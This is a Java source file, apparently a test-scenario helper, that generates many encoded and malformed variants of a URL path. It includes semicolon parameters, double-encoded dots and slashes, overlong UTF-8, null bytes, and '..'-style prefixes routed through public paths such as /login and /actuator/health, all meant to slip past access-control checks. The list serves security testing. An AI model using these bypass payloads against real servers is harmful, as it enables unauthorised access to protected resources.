package org.casereview.scenario;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;

/** Ways to write a path so that one program reads it so, and another otherwise. */
final class PathVariants {

  private static final List<UnaryOperator<String>> OF_A_PART =
      List.of(
          part -> part + ";x=1",
          part -> part + ";",
          part -> ";" + part,
          part -> part.toUpperCase(Locale.ROOT),
          part -> part.substring(0, 1).toUpperCase(Locale.ROOT) + part.substring(1),
          part -> "%" + Integer.toHexString(part.charAt(0)) + part.substring(1),
          part -> "%25" + Integer.toHexString(part.charAt(0)) + part.substring(1),
          PathVariants::allInPercentSigns,
          part -> part + ".",
          part -> part + "%2e",
          part -> part + "%00",
          part -> part + "%20",
          part -> part + "%09",
          part -> part + "%e2%80%8b",
          part -> "%ef%bb%bf" + part,
          // The same letter in full width, and in more bytes than it needs.
          part -> "%ef%bd%" + Integer.toHexString(part.charAt(0) + 0x20) + part.substring(1),
          part -> "%c1%" + Integer.toHexString(part.charAt(0) + 0x40) + part.substring(1),
          part -> part + "+");

  private static final List<String> BETWEEN =
      List.of(
          "//",
          "///",
          "/./",
          "/%2e/",
          "/%252e/",
          "/x/../",
          "/x/%2e%2e/",
          "/x/..;/",
          "/;/",
          ";/",
          "%2f",
          "%2F",
          "%252f",
          "\\",
          "%5c",
          "/\\",
          "%c0%af",
          "%ef%bc%8f",
          "/..//",
          "/%3b/");

  private static final List<String> BEHIND =
      List.of(
          "/",
          "//",
          ".",
          "..",
          "/.",
          "/..;/",
          "%20",
          "%00",
          "%0a",
          "%0d%0a",
          ".json",
          ".html",
          ".css",
          ";.css",
          ";x.js",
          "?x.css",
          "%3fx.css",
          "%23",
          "~",
          "/index.html",
          "/%2e%2e/");

  /** Open to everybody; what follows is not. */
  private static final List<String> BEFORE =
      List.of(
          "http://localhost",
          "/",
          "/;",
          "/.",
          "/%2f",
          "/css/..",
          "/css/..;",
          "/css/%2e%2e",
          "/css/%252e%252e",
          "/images/..%2f",
          "/js/..\\",
          "/login/..",
          "/login/..;x",
          "/actuator/health/..",
          "/actuator/health/..;",
          "/login;");

  private PathVariants() {}

  private static String allInPercentSigns(String part) {
    var all = new StringBuilder();
    part.chars().forEach(letter -> all.append('%').append(Integer.toHexString(letter)));
    return all.toString();
  }

  /** The path as it is, and with one thing of it written otherwise. */
  static Set<String> of(String path) {
    var all = new LinkedHashSet<>(Set.of(path));
    var parts = List.of(path.substring(1).split("/"));
    String last = path.endsWith("/") ? "/" : "";
    for (int i = 0; i < parts.size(); i++) {
      for (var trick : OF_A_PART) {
        var changed = new ArrayList<>(parts);
        changed.set(i, trick.apply(parts.get(i)));
        all.add("/" + String.join("/", changed) + last);
      }
      String before = "/" + String.join("/", parts.subList(0, i));
      String after = String.join("/", parts.subList(i, parts.size())) + last;
      BETWEEN.forEach(sign -> all.add((before.equals("/") ? "" : before) + sign + after));
    }
    BEHIND.forEach(sign -> all.add(path + sign));
    BEFORE.forEach(sign -> all.add(sign + path));
    return all;
  }
}
